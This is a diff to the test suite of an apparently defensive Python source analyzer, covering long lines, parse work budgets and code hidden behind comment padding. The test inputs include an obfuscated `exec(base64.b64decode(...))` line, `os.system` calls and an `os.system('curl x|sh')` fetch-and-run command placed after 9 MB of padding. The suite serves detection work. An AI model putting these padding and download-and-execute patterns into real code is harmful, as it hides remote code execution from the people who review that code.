@@ -461,28 +461,35 @@ describe('robustness', () => {
     assert.equal(found.detail, `${'a'.repeat(200)}…`);
   });
 
-  it('stays within the time budget on a 5 MB single-line file', () => {
-    const budget = 1500;
+  it('reads a 5 MB single-line file whole', () => {
     const line = `import base64;exec(base64.b64decode('${randomBase64(3_750_000)}'))`;
-    const started = performance.now();
-    const r = analyzePythonSourceDetailed('big.py', Buffer.from(line), { timeBudgetMs: budget });
-    const elapsed = performance.now() - started;
-    assert.ok(elapsed < budget * 2 + 500, `took ${elapsed} ms`);
+    const r = analyzePythonSourceDetailed('big.py', Buffer.from(line));
     assert.ok(r.facts.constructs.some((c) => c.kind === 'long-line' && c.detail === `length=${line.length}`));
     assert.ok(r.facts.constructs.some((c) => c.kind === 'high-entropy-string'));
     assert.ok(r.facts.strings[0]!.value.length <= 64 * 1024);
   });
 
-  it('gives up on a pathological 5 MB expression at the budget, keeping a prefix', () => {
-    const budget = 800;
+  it('gives up on a pathological 5 MB expression at the work budget, keeping a prefix and naming the rest', () => {
     const line = `import os\nos.system('a')\nx = ${'a+'.repeat(2_500_000)}a\n`;
-    const started = performance.now();
-    const r = analyzePythonSourceDetailed('slow.py', Buffer.from(line), { timeBudgetMs: budget });
-    const elapsed = performance.now() - started;
-    assert.ok(elapsed < budget * 3 + 1000, `took ${elapsed} ms`);
+    const run = () =>
+      analyzePythonSourceDetailed('slow.py', Buffer.from(line), { work: { parseSteps: 2000 } });
+    const r = run();
     assert.equal(r.facts.partial, true);
-    assert.ok(r.problems.some((p) => p.kind === 'timeout'));
+    const problem = r.problems.find((p) => p.kind === 'timeout');
+    assert.match(problem?.message ?? '', /bytes \d+-5000031 were not parsed/);
     assert.equal(callAt(r.facts, 2).callee, 'os.system');
+    // Work, not time: a second run stops at the same place with the same facts.
+    assert.deepEqual(run(), r);
+  });
+
+  it('parses code after 9 MB of comment padding', () => {
+    const padding = `# ${'p'.repeat(60)}\n`.repeat(150_000);
+    const r = analyzePythonSourceDetailed(
+      'pad.py',
+      Buffer.from(`${padding}import os\nos.system('curl x|sh')\n`),
+    );
+    assert.deepEqual(r.problems, []);
+    assert.equal(callAt(r.facts, 150_002).callee, 'os.system');
   });
 
   it('truncates files above maxBytes and says so', () => {
